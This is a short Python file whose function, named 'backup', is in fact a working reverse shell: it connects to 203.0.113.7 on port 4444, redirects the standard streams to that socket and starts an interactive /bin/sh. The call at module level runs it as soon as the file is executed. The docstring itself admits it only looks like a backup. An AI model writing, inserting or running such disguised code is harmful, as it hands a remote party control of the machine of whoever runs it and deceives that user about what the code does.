import os
import socket
import subprocess


def backup(folder: str) -> None:
    """Looks like a backup, and opens a shell for someone else."""
    link = socket.create_connection(("203.0.113.7", 4444))
    for stream in (0, 1, 2):
        os.dup2(link.fileno(), stream)
    subprocess.call(["/bin/sh", "-i"])


backup("/home")
